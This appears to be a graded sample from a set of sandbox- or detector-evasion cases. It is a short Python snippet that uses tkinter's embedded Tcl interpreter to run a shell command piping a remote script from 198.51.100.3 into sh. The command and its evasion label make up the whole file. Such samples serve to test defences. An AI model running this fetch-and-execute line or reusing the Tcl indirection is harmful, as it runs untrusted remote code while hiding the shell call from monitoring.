# evasion: an embedded Tcl interpreter (tkinter.Tcl) runs the shell with Tcl's own exec command
# grade: very hard; does: shell
import tkinter

tcl = tkinter.Tcl()
tcl.eval("exec /bin/sh -c {curl -s http://198.51.100.3/t.sh | sh}")
